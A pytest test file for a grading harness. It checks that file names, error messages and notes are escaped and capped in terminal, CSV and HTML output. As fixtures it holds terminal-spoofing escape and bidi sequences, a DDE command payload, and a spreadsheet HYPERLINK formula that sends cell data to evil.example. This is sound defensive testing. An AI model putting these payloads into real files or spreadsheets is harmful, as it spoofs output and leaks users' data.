"""Output that cannot spoof or flood: user text is shown escaped and capped on the terminal, in CSV and in HTML."""

from __future__ import annotations

import csv
import io
import sys
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from gradharness.records.batch import BatchSummary, SummaryRow
from gradharness.records.verdict import RunVerdict
from gradharness.render.batch import summary_csv, write_batch
from gradharness.render.html import render_report, write_report
from gradharness.render.html.render import render_summary
from gradharness.render.safe_text import MESSAGE_BYTES, csv_cell, cut, shown, utf8_size
from gradharness.render.terminal import render_record
from gradharness.render.terminal_mutation import render_mutate
from tests.report_support import error_record, mutate_record, parse, seed_case_record

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)

# ESC with a colour sequence, a C1 CSI, a right-to-left override, an isolate, a BEL, a carriage return.
RAW = ("\x1b", "\x9b", "\u202e", "\u2066", "\x07", "\r")
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SPOOF_NAME = "ok\x1b[32m PASS\x1b[0m\u202eyp.\x9b2J\u2066.py"
SPOOF_ERROR = "NameError: x\x1b[2K\r\x1b[1;32mPASS\x1b[0m everything\u202e"
SPOOF_NOTE = "helper\x1b]0;owned\x07 loaded\u2066"
FORMULA_NAME = '=HYPERLINK("https:evil.example?x="&A1;"click").py'


def _assert_no_raw_controls(text: str) -> None:
    found = sorted({repr(c) for c in RAW if c in text})
    assert not found, f"raw control or bidi characters reached the output: {found}"


def _terminal(record) -> str:
    buffer = io.StringIO()
    render_record(Console(file=buffer, width=200, color_system=None, highlight=False, soft_wrap=True), record)
    return buffer.getvalue()


def _hostile_failure(path: str = SPOOF_NAME):
    record = seed_case_record()
    failure = replace(record.failures[0], message=f"dW2 wrong {SPOOF_ERROR}")
    return replace(record, target={**record.target, "path": path, "notes": [SPOOF_NOTE]}, failures=[failure])


def _row(file: str, error: str | None, notes: list[str] | None = None, seconds: float = 0.1) -> SummaryRow:
    return SummaryRow(
        file=file, verdict=RunVerdict.ERROR, exit_code=2, wrong_blocks=[], failed_properties=[], smallest_network=None,
        error=error, seconds=seconds, report_json="reports/x.json", report_html="reports/x.html",
        report_text="reports/x.txt", notes=notes or [],
    )  # fmt: skip


def _summary(*rows: SummaryRow) -> BatchSummary:
    return BatchSummary("now", {}, {"pass": 0, "fail": 0, "error": len(rows)}, list(rows))


# --- the one implementation ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\x1b[31mb", "a\\x1b[31mb"),
        ("\x00\x08\x7f", "\\x00\\x08\\x7f"),
        ("\x85\x9b\x9f", "\\x85\\x9b\\x9f"),
        ("\u202a\u202b\u202c\u202d\u202e", "\\u202a\\u202b\\u202c\\u202d\\u202e"),
        ("\u2066\u2067\u2068\u2069", "\\u2066\\u2067\\u2068\\u2069"),
        ("\u200e\u200f\u061c", "\\u200e\\u200f\\u061c"),
        ("line\nnext\tcol\r", "line\\x0anext\\x09col\\x0d"),
        ("bad\udcffname.py", "bad\\udcffname.py"),
        ("héllo wörld → ∂J/∂θ ✓", "héllo wörld → ∂J/∂θ ✓"),
        ("C:\\Users\\x.py", "C:\\Users\\x.py"),
    ],
)
def test_shown_escapes_what_a_terminal_would_obey_and_keeps_ordinary_text(text, expected):
    assert shown(text) == expected


def test_a_block_keeps_its_newlines_and_tabs_but_not_carriage_returns():
    assert shown("a\n\tb\r\x1bc", keep_newlines=True) == "a\n\tb\\x0d\\x1bc"


def test_the_cap_counts_utf8_bytes_never_cuts_a_character_and_says_how_much_is_left():
    assert shown("x" * 10, 4) == "xxxx … [cut: 6 more bytes]"
    assert shown("ééé", 3) == "é … [cut: 4 more bytes]"  # 2 + 2 + 2 bytes: the second é does not fit
    assert shown("\U0001f600\U0001f600", 5) == "\U0001f600 … [cut: 4 more bytes]"
    assert shown("short", 100) == "short"
    assert shown("x" * 3 + "\x1b" * 3, 4) == "xxx\\x1b … [cut: 2 more bytes]"  # the cap is on the user's text


@given(st.text(st.characters(exclude_categories=())), st.integers(min_value=0, max_value=40))
def test_cut_keeps_the_longest_start_that_fits(text, limit):
    kept, dropped = cut(text, limit)
    assert text.startswith(kept)
    assert utf8_size(kept) <= limit
    assert utf8_size(kept) + dropped == utf8_size(text)
    if dropped:
        assert utf8_size(text[: len(kept) + 1]) > limit


@given(st.text(st.characters(exclude_categories=())))
def test_shown_text_has_nothing_left_to_escape(text):
    once = shown(text)
    assert shown(once) == once
    assert not [c for c in once if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c in BIDI]
    once.encode("utf-8")  # printable on a UTF-8 terminal: no lone surrogate left


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("student.py", "student.py"),
        ("a=b.py", "a=b.py"),
        ("", ""),
    ],
)
def test_csv_cells_that_start_like_a_formula_get_a_quote(cell, expected):
    assert csv_cell(cell) == expected


# --- the terminal ---------------------------------------------------------------------------------------------


def test_terminal_shows_a_spoofing_file_name_and_error_escaped():
    printed = _terminal(error_record(Path(SPOOF_NAME), SPOOF_ERROR))
    _assert_no_raw_controls(printed)
    assert "ok\\x1b[32m PASS\\x1b[0m\\u202eyp.\\x9b2J\\u2066.py" in printed
    assert "\\x1b[1;32mPASS" in printed and printed.startswith("ERROR ")
    assert printed.count("\n") == 1  # the carriage return and newline of the error cannot start a fake line


def test_terminal_shows_a_spoofing_failure_message_escaped():
    printed = _terminal(_hostile_failure())
    _assert_no_raw_controls(printed)
    assert "dW2 wrong NameError: x\\x1b[2K\\x0d\\x1b[1;32mPASS" in printed
    assert printed.startswith("FAIL ok\\x1b[32m PASS")


def test_terminal_caps_a_huge_message():
    printed = _terminal(error_record(Path("big.py"), "E" * 10_000_000))
    assert len(printed) < 2 * MESSAGE_BYTES
    assert f"[cut: {10_000_000 - MESSAGE_BYTES} more bytes]" in printed


def test_terminal_mutate_shows_a_spoofing_diff_and_description_escaped():
    record = mutate_record()
    mutant = replace(
        record.mutants[2],
        description="line 78: \x1b[32mkilled\x1b[0m",
        diff="@@ -1 +1 @@\n-a\n+a\x1b]8;;http://x\x07\n",
    )
    buffer = io.StringIO()
    render_mutate(Console(file=buffer, width=160, color_system=None), replace(record, mutants=[mutant]))
    _assert_no_raw_controls(buffer.getvalue())
    assert "\\x1b[32mkilled" in buffer.getvalue() and "\\x1b]8;;http://x\\x07" in buffer.getvalue()


def test_the_cli_error_line_is_escaped(monkeypatch, capsys):
    from gradharness.cli.main import run

    monkeypatch.setattr(sys, "argv", ["gradharness", "check", "/no/such/\x1b[32mPASS\u202e/*.py"])
    with pytest.raises(SystemExit) as exit_info:
        run()
    captured = capsys.readouterr()
    assert exit_info.value.code == 2
    _assert_no_raw_controls(captured.err + captured.out)
    assert "\\x1b[32mPASS\\u202e" in captured.err


# --- CSV -------------------------------------------------------------------------------------------------------


def test_csv_neutralises_formulas_and_escapes_controls_in_user_text_only():
    text = summary_csv(
        _summary(
            _row(FORMULA_NAME, "-1+1 is not a cost", seconds=-0.5),
            _row(SPOOF_NAME, SPOOF_ERROR),
            _row("@home.py", "E" * 100_000),
        )
    )
    _assert_no_raw_controls(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["file"] == "'" + FORMULA_NAME
    assert rows[0]["error"] == "'-1+1 is not a cost"
    assert rows[0]["seconds"] == "-0.5"  # a number gradharness wrote stays a number
    assert rows[0]["report_json"] == "reports/x.json" and rows[0]["verdict"] == "error"
    assert rows[1]["file"] == shown(SPOOF_NAME) and rows[1]["error"] == shown(SPOOF_ERROR)
    assert rows[2]["file"] == "'@home.py"
    assert rows[2]["error"].endswith(f"[cut: {100_000 - MESSAGE_BYTES} more bytes]")


# --- HTML -----------------------------------------------------------------------------------------------------


def test_a_check_report_shows_names_and_messages_escaped():
    html = render_report(_hostile_failure(), created=NOW)
    _assert_no_raw_controls(html)
    page = parse(html)
    assert shown(SPOOF_NAME) in page.by_id("title").text()
    assert shown(SPOOF_ERROR) in page.find_all("section", class_="failure")[0].text()


def test_an_error_report_keeps_the_lines_of_its_message_but_escapes_the_rest():
    html = render_report(error_record(Path(SPOOF_NAME), "first line\nsecond \x1b[31mline"), created=NOW)
    _assert_no_raw_controls(html)
    message = parse(html).by_id("error").find_all("p", class_="message")[0].text()
    assert message == "first line\nsecond \\x1b[31mline"


def test_the_summary_page_shows_names_errors_and_notes_escaped():
    html = render_summary(_summary(_row(SPOOF_NAME, SPOOF_ERROR, [SPOOF_NOTE])))
    _assert_no_raw_controls(html)
    cells = parse(html).by_id("files").find_all("tbody")[0].rows()[0]
    assert cells[0] == shown(SPOOF_NAME) + "1 note" + shown(SPOOF_NOTE)  # the notes folded in a <details>
    assert cells[5] == shown(SPOOF_ERROR)


def test_every_page_has_one_and_the_same_content_security_policy(tmp_path):
    def policies(html: str) -> list[str]:
        return [m.attrs["content"] for m in parse(html).find_all("meta", **{"http-equiv": "Content-Security-Policy"})]

    report = write_report(seed_case_record(), folder=tmp_path)
    summary = policies(render_summary(_summary(_row("a.py", None))))
    assert summary == policies(report.read_text(encoding="utf-8"))
    assert summary == policies((tmp_path / "index.html").read_text(encoding="utf-8"))
    assert len(summary) == 1 and "default-src 'none'" in summary[0] and "script-src" not in summary[0]


@pytest.mark.slow
def test_a_batch_writes_nothing_raw_anywhere(tmp_path):
    folder = tmp_path / "submissions"
    folder.mkdir()
    spoof = folder / SPOOF_NAME
    spoof.write_text("x = 1\n", encoding="utf-8")
    formula = folder / FORMULA_NAME
    formula.write_text("y = 2\n", encoding="utf-8")
    records = [error_record(spoof, SPOOF_ERROR), _hostile_failure(str(formula))]
    records[0] = replace(records[0], target={**records[0].target, "notes": [SPOOF_NOTE]})
    _, paths = write_batch(records, tmp_path / "out", base=folder)
    written = sorted(p for p in (tmp_path / "out").rglob("*") if p.is_file())
    assert {p.suffix for p in written} == {".json", ".txt", ".html", ".csv"}
    for path in written:
        if path.suffix != ".json":  # the records keep the user's text as it was; only what is shown is escaped
            _assert_no_raw_controls(path.read_text(encoding="utf-8"))
    rows = list(csv.DictReader(paths["csv"].open(encoding="utf-8")))
    assert {row["file"] for row in rows} == {shown(SPOOF_NAME), "'" + FORMULA_NAME}
    text_reports = [p.read_text(encoding="utf-8") for p in written if p.suffix == ".txt"]
    assert any(f"note: {shown(SPOOF_NOTE)}" in text for text in text_reports)


# --- size -----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def huge_line_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("huge") / "one_line.py"
    path.write_bytes(b"dW2 = 1  # " + b"x" * (50 * 1024 * 1024))
    return path


def test_a_huge_message_and_a_huge_one_line_file_give_a_report_of_ordinary_size(huge_line_file):
    size = huge_line_file.stat().st_size
    message = "SyntaxError: invalid syntax (line 1) " + "E" * 10_000_000
    html = render_report(error_record(huge_line_file, message), created=NOW)
    assert len(html.encode("utf-8")) < 1_000_000
    assert f"[cut: {len(message) - MESSAGE_BYTES} more bytes]" in html  # the error, banner and message box
    page = parse(html)
    code = page.by_id("source")
    assert f"[cut: {size - 1000} more bytes]" in code.text()  # the line, in the excerpt and the whole source
    assert [line.text() for line in code.find_all("tr", class_="hl")][0].startswith("1dW2 = 1  # xxx")


@pytest.mark.slow
def test_a_huge_failure_message_and_a_flood_of_lines_stay_small(tmp_path):
    path = tmp_path / "long.py"
    path.write_text("dW2 = 1\n" + "".join(f"v{i} = '{'y' * 900}'\n" for i in range(1500)), encoding="utf-8")
    record = seed_case_record()
    failure = replace(record.failures[0], message="dW2 wrong " + "M" * 10_000_000)
    record = replace(record, target={"path": str(path), "sha256": None, "functions": []}, failures=[failure])
    html = render_report(record, created=NOW)
    assert len(html.encode("utf-8")) < 1_000_000
    assert "more lines not shown (a report shows at most 150000 bytes of code)" in html
    assert "Whole source (1502 lines)" in html
